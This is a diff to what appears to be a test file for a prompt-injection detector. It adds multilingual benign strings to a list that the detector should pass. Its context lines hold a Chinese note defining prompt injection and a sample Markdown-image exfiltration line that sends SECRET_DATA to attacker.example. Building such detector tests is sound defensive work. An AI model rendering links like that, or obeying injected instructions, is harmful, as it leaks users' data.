@@ -60,6 +60,13 @@ PASSED = [
     "学习笔记：提示注入是一种攻击，攻击者让模型忽略之前的指令。",
     "- 💡 `dakota` was using [GitHub Copilot](https://copilot.github.com/), which reminded them of code blocks.",
     "Markdown image exfiltration: a page makes the model render ![x](https://attacker.example/?q=SECRET_DATA).",
+    # other languages: the AI's word qualifying a group, a project or a person; a plan; a thank-you
+    "Hinweis für die KI-Gruppe: die Folien sind auf https://github.com/acme/talks, bitte vor Donnerstag lesen.",
+    "Note pour l'agent comptable : envoyer les factures de mars avant le 5.",
+    "Для ИИ-проекта: выложить презентацию на https://example.ru/slides и отправить ссылку команде.",
+    "Assistente, grazie per l'aiuto con il push di ieri!",
+    "エージェントは今後、社内の API 仕様書を参照して回答する予定です。",
+    "المساعد الذكي: ميزة جديدة في التطبيق تتيح رفع الملفات عبر API.",
 ]
 
 
